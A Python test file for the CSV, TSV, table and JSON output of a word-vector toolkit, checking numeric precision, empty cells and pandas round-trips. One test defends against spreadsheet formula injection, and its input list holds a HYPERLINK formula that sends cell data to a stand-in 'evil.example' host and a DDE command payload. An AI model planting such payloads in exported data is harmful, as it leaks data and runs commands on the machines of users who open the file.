"""Rows out for R and pandas (w2vkit.base.render): CSV and TSV read back to the same numbers at
full precision, empty cells where there is no number, lists in one cell; Result.to_frame()."""

from __future__ import annotations

import csv
import io
import json
import math

import numpy as np

from w2vkit.base.render import format_result
from w2vkit.base.results import Result

COLUMNS = ["word", "score", "p", "neighbours", "flag", "note"]
ROWS = [
    ("月", 0.1 + 0.2, 0.000999000999000999, ["梅", "酒"], True, None),
    ('say "hi", ok', np.float32(1 / 3), float("nan"), [], False, "line\tbreak\nhere"),
    ("行者", None, 1e-300, ("a", 2.5), False, ""),
]


def render(columns, rows, fmt):
    return format_result(Result("x", columns, rows), fmt)


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def test_csv_makes_text_a_spreadsheet_would_run_inert_and_leaves_numbers_and_tsv_as_they_are():
    """Round 7's C55: a word, a group or a neighbour from the data that begins with = + - @ (or a
    tab or CR) is written with a leading ' in CSV; numbers, negative ones too, are not."""
    rows = [(text, -0.25, [text, "月"], -3) for text in FORMULAS] + [("月", -1e-05, [-0.5, 0.25], 0)]
    read = list(csv.reader(io.StringIO(render(["group", "z", "neighbours", "n"], rows, "csv"), newline="")))[1:]
    for text, row in zip(FORMULAS, read):
        assert row[0] == "'" + text and row[2] == "'" + text + " 月"
        assert (row[1], row[3]) == ("-0.25", "-3")
    assert read[-1] == ["月", "-1e-05", "-0.5 0.25", "0"]
    tsv = render(["group"], [(text,) for text in FORMULAS[:5]], "tsv").split("\n")[1:]
    assert tsv == FORMULAS[:5]  # (TSV, like JSON, carries the text exactly: for R and pandas)


def test_csv_reads_back_to_the_same_numbers_with_empty_cells_for_missing_ones():
    out = render(COLUMNS, ROWS, "csv")
    assert out.startswith("word,score,p,neighbours,flag,note\r\n")
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[0] == COLUMNS and len(rows) == 4
    first, second, third = rows[1:]
    assert float(first[1]) == 0.1 + 0.2 and float(first[2]) == 0.000999000999000999  # (not 0.0010)
    assert first[3] == "梅 酒" and first[4] == "true" and first[5] == ""
    assert second[0] == 'say "hi", ok' and float(second[1]) == float(np.float32(1 / 3)) and second[2] == ""
    assert second[5] == "line\tbreak\nhere"  # (quoted: CSV holds any text)
    assert third[1] == "" and float(third[2]) == 1e-300 and third[3] == "a 2.5"


def test_tsv_is_the_same_cells_without_tabs_or_line_breaks_inside():
    out = render(COLUMNS, ROWS, "tsv")
    lines = out.split("\n")
    assert len(lines) == 4 and all(line.count("\t") == len(COLUMNS) - 1 for line in lines)
    cells = [line.split("\t") for line in lines]
    assert float(cells[1][1]) == 0.1 + 0.2 and cells[2][2] == "" and cells[2][5] == "line break here"


def test_the_table_is_for_reading():
    out = render(COLUMNS, ROWS, "table")
    assert "0.3000" in out and "n/a" in out and "0.3333" in out and "梅 酒" in out


def test_json_is_the_results_document_on_one_line_when_asked():
    result = Result("x", ["word", "score"], [("月", float("nan"))], {"asked": ["月"]})
    result.note("a note")
    out = format_result(result, "json", indent=None)
    assert "\n" not in out and json.loads(out) == {
        "asked": ["月"],
        "notes": [{"kind": "warning", "message": "a note"}],
        "provenance": {},
        "results": [{"word": "月", "score": None}],
    }


def test_pandas_reads_a_commands_csv_as_its_json(tmp_path, invoke):
    from conftest import WORDS, model_with_members

    model = model_with_members(tmp_path)
    as_json = invoke(["similar", WORDS[0], "-m", str(model), "--format", "json"])
    as_csv = invoke(["similar", WORDS[0], "-m", str(model), "--format", "csv"])
    assert as_json.exit_code == 0 and as_csv.exit_code == 0, as_csv.output
    import pandas

    frame = pandas.read_csv(io.StringIO(as_csv.stdout))
    records = json.loads(as_json.stdout)["results"]
    assert list(frame.columns) == list(records[0])
    for column in ["similarity", "model", "low", "high", "recurrence"]:
        assert frame[column].tolist() == [r[column] for r in records], column


def test_to_frame_keeps_the_rows_and_what_made_them():
    import pandas

    result = Result("x", ["word", "score", "neighbours"], [("a", 0.5, ["b", "c"]), ("b", None, [])], {"asked": 1})
    result.note("a note")
    result.provenance = {"model": "m"}
    frame = result.to_frame()
    assert isinstance(frame, pandas.DataFrame) and list(frame.columns) == ["word", "score", "neighbours"]
    assert frame["score"].iloc[0] == 0.5 and math.isnan(frame["score"].iloc[1])
    assert frame["neighbours"].iloc[0] == ["b", "c"]
    assert frame.attrs["provenance"] == {"model": "m"} and frame.attrs["notes"] == ["a note"]
    assert frame.attrs["fields"] == {"asked": 1} and frame.attrs["command"] == "x"


def test_csv_leaves_a_label_that_is_a_plain_number_as_written():
    """Round 8's S10: group labels -1 and +1 from a table were written '-1 and '+1, which pandas
    then read as text. A plain number runs nothing in a spreadsheet; a formula still gets its '."""
    import io

    import pandas as pd

    labels = ["-1", "+1", "1e5", "-2.5", "+1+1", "-1)", "=1", "−1"]
    text = render(["group", "n"], [(label, i) for i, label in enumerate(labels)], "csv")
    read = pd.read_csv(io.StringIO(text), dtype={"group": str})
    assert list(read["group"]) == ["-1", "+1", "1e5", "-2.5", "'+1+1", "'-1)", "'=1", "−1"]
    numeric = pd.read_csv(io.StringIO(render(["group"], [("-1",), ("1",)], "csv")))
    assert numeric["group"].dtype.kind == "i" and list(numeric["group"]) == [-1, 1]


def test_a_table_shows_a_tiny_number_in_significant_digits_not_as_zero():
    """Issue 92: a regression's norm per unit printed 0.0000 (0.0000–0.0001); the table shows it
    in three significant digits, a true 0 as 0.0000, and TSV keeps every digit."""
    table = render(["norm", "low", "high"], [(4.91234e-05, 0.0, 0.000123)], "table").split("\n")[-1].split()
    assert table == ["4.91e-05", "0.0000", "0.0001"]
    assert render(["norm"], [(4.91234e-05,)], "tsv").split("\n")[1] == "4.91234e-05"
